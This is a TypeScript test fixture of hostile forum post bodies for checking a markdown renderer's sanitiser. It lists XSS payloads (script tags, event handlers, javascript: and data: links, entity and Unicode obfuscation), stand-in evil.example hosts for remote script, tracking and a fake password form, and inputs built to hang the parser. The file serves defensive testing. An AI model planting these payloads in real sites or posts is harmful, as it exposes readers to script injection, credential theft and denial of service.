/**
 * Post bodies written to run code in a reader's browser, leak their address, or wedge the
 * renderer. Shared by the markdown unit tests and the web e2e tests (which post them and check
 * the page), so keep every entry a realistic body: at most 20,000 characters, the body limit.
 */
export interface HostileInput {
  /** Short description, used as the test name. */
  name: string;
  /** The post body exactly as a member would submit it. */
  body: string;
}

const LIMIT = 20_000;

/** Fills a body up to the limit with a repeated unit, for the nesting and backtracking cases. */
function fill(unit: string, tail = ''): string {
  return unit.repeat(Math.floor((LIMIT - tail.length) / unit.length)) + tail;
}

export const HOSTILE_INPUTS: readonly HostileInput[] = [
  // Raw HTML: must come out as text, never as elements.
  { name: 'script tag', body: '<script>alert(1)</script>' },
  { name: 'script tag with src', body: '<script src="https://evil.example/x.js"></script>' },
  { name: 'uppercase SCRIPT split over lines', body: '<SCRIPT\n>alert(1)</SCRIPT\n>' },
  { name: 'img onerror', body: '<img src=x onerror=alert(1)>' },
  { name: 'img ONERROR mixed case, no quotes', body: '<IMG SRC=x OnErRoR=alert(document.cookie)>' },
  { name: 'body onload', body: '<body onload=alert(1)>' },
  { name: 'div onmouseover', body: '<div onmouseover="alert(1)">hover me</div>' },
  { name: 'event handler with slash separator', body: '<a/onmouseover=alert(1)>x</a>' },
  { name: 'svg onload', body: '<svg onload=alert(1)>' },
  { name: 'svg with script inside', body: '<svg><script>alert(1)</script></svg>' },
  {
    name: 'svg animate href',
    body: '<svg><a><animate attributeName=href values=javascript:alert(1) /><text y=20>x</text></a></svg>',
  },
  {
    name: 'MathML namespace confusion',
    body: '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  },
  { name: 'iframe', body: '<iframe src="https://evil.example"></iframe>' },
  { name: 'iframe srcdoc', body: '<iframe srcdoc="<script>alert(1)</script>"></iframe>' },
  { name: 'style element', body: '<style>body{background:url(https://evil.example/track)}</style>' },
  { name: 'style attribute', body: '<p style="background:url(javascript:alert(1))">x</p>' },
  { name: 'base href', body: '<base href="https://evil.example/">[home](http://ok.example)' },
  {
    name: 'form with action',
    body: '<form action="https://evil.example"><input name=p type=password><button>Log in</button></form>',
  },
  { name: 'meta refresh', body: '<meta http-equiv="refresh" content="0;url=https://evil.example">' },
  { name: 'object and embed', body: '<object data="javascript:alert(1)"></object><embed src="x.swf">' },
  { name: 'link stylesheet', body: '<link rel=stylesheet href="https://evil.example/x.css">' },
  { name: 'details ontoggle', body: '<details open ontoggle=alert(1)>' },
  { name: 'template smuggling', body: '<template><img src=x onerror=alert(1)></template>' },
  { name: 'noscript mXSS', body: '<noscript><p title="</noscript><img src=x onerror=alert(1)>">' },
  { name: 'comment breakout', body: '<!--><img src=x onerror=alert(1)>-->' },
  { name: 'CDATA in HTML', body: '<![CDATA[><img src=x onerror=alert(1)>]]>' },

  // Dangerous schemes through every markdown link form.
  { name: 'inline link javascript:', body: '[click](javascript:alert(1))' },
  { name: 'inline link JAVASCRIPT: uppercase', body: '[click](JAVASCRIPT:alert(1))' },
  {
    name: 'inline link data:text/html',
    body: '[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
  },
  { name: 'inline link vbscript:', body: '[click](vbscript:msgbox(1))' },
  { name: 'inline link file:', body: '[click](file:///etc/passwd)' },
  { name: 'inline link with angle-bracket destination', body: '[click](<javascript:alert(1)>)' },
  { name: 'inline link with title', body: '[click](javascript:alert(1) "innocent")' },
  {
    name: 'title carrying an event handler',
    body: '[click](https://ok.example "x\\" onmouseover=\\"alert(1)")',
  },
  { name: 'reference link javascript:', body: '[click][x]\n\n[x]: javascript:alert(1)' },
  { name: 'reference link with title', body: '[click][x]\n\n[x]: javascript:alert(1) "title"' },
  { name: 'collapsed reference link', body: '[x][]\n\n[x]: <javascript:alert(1)>' },
  { name: 'autolink javascript:', body: '<javascript:alert(1)>' },
  { name: 'autolink data:', body: '<data:text/html,<script>alert(1)</script>>' },
  { name: 'linkify bare javascript:', body: 'visit javascript:alert(1) now' },
  { name: 'linkify bare data:', body: 'data:text/html,<script>alert(1)</script>' },
  { name: 'image with javascript: src', body: '![x](javascript:alert(1))' },
  { name: 'image with data: src', body: '![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)' },
  { name: 'image with onerror in alt', body: '![" onerror="alert(1)](https://ok.example/a.png)' },
  { name: 'image inside link', body: '[![x](javascript:alert(1))](javascript:alert(2))' },

  // Encoded and obfuscated schemes.
  { name: 'decimal entity j', body: '[click](&#106;avascript:alert(1))' },
  {
    name: 'fully entity-encoded scheme',
    body: '[click](&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;alert(1))',
  },
  { name: 'entity colon', body: '[click](javascript&colon;alert(1))' },
  { name: 'percent-encoded j', body: '[click](%6Aavascript:alert(1))' },
  { name: 'tab inside the scheme', body: '[click](java\tscript:alert(1))' },
  { name: 'entity tab inside the scheme', body: '[click](java&#9;script:alert(1))' },
  { name: 'newline inside the scheme', body: '[click](<java\nscript:alert(1)>)' },
  { name: 'entity newline inside the scheme', body: '[click](java&#10;script:alert(1))' },
  { name: 'leading spaces and control characters', body: '[click](\x01\x02 javascript:alert(1))' },
  { name: 'entity-encoded leading control character', body: '[click](&#1;javascript:alert(1))' },
  { name: 'backslash-escaped colon', body: '[click](javascript\\:alert(1))' },
  { name: 'protocol-relative URL', body: '[click](//evil.example/x)' },
  { name: 'backslash host', body: '[click](https:\\\\evil.example)' },
  {
    name: 'credentials disguising the host',
    body: '[bank](https://bank.example@evil.example) https://bank.example@evil.example',
  },
  { name: 'scheme hidden by zero-width space', body: '[click](java\u200Bscript:alert(1))' },

  // Markdown and HTML mixed.
  { name: 'HTML inside link text', body: '[<img src=x onerror=alert(1)>](https://ok.example)' },
  { name: 'HTML inside code span', body: '`<script>alert(1)</script>`' },
  { name: 'HTML inside fenced code info string', body: '```"><script>alert(1)</script>\ncode\n```' },
  {
    name: 'HTML inside emphasis and quote',
    body: '> **<svg/onload=alert(1)>** _<a href="javascript:alert(1)">x</a>_',
  },
  {
    name: 'entity-encoded tag',
    body: '&lt;script&gt;alert(1)&lt;/script&gt; &#60;img src=x onerror=alert(1)&#62;',
  },
  {
    name: 'HTML in a list item and heading',
    body: '# <script>alert(1)</script>\n\n- <iframe src=//evil.example>\n- <b onclick=alert(1)>x</b>',
  },
  { name: 'link text that is itself a link', body: '[https://ok.example](javascript:alert(1))' },
  { name: 'nested link brackets', body: '[[x](javascript:alert(1))](https://ok.example)' },

  // Unicode and byte-level abuse.
  { name: 'right-to-left override in link text', body: '[\u202Egnp.exe](https://ok.example/file)' },
  {
    name: 'bidi isolates around a URL',
    body: 'see \u2066https://ok.example\u2069 and \u202Ejavascript:alert(1)',
  },
  { name: 'NUL bytes in tag and scheme', body: '<scr\0ipt>alert(1)</scr\0ipt> [x](java\0script:alert(1))' },
  {
    name: 'fullwidth angle brackets and colon',
    body: '\uFF1Cscript\uFF1Ealert(1)\uFF1C/script\uFF1E [x](javascript\uFF1Aalert(1))',
  },
  { name: 'surrogate halves', body: 'lone \uD800 and \uDFFF [x](https://ok.example/\uD800)' },

  // Size and nesting: must finish fast and not throw.
  { name: '10,000 nested blockquotes', body: '>'.repeat(10_000) + ' deep' },
  { name: '10,000 open brackets', body: '['.repeat(10_000) + 'x' },
  { name: 'unbalanced brackets and parens', body: fill('[a](', 'javascript:alert(1)') },
  { name: '9,999 asterisks each side', body: '*'.repeat(9_999) + 'x' + '*'.repeat(9_999) },
  { name: 'alternating emphasis markers', body: fill('*_') },
  {
    name: 'deeply nested lists',
    body: Array.from({ length: 1_000 }, (_, i) => `${' '.repeat(i * 2)}- x`)
      .join('\n')
      .slice(0, LIMIT),
  },
  { name: 'many backticks', body: fill('`a``') },
  { name: 'many reference definitions', body: fill('[a]: <javascript:x>\n') },
  { name: 'many autolink openers', body: fill('<a:') },
  { name: 'linkify pathological', body: fill('http://a.') },
  { name: 'many entities', body: fill('&#106;') },
];
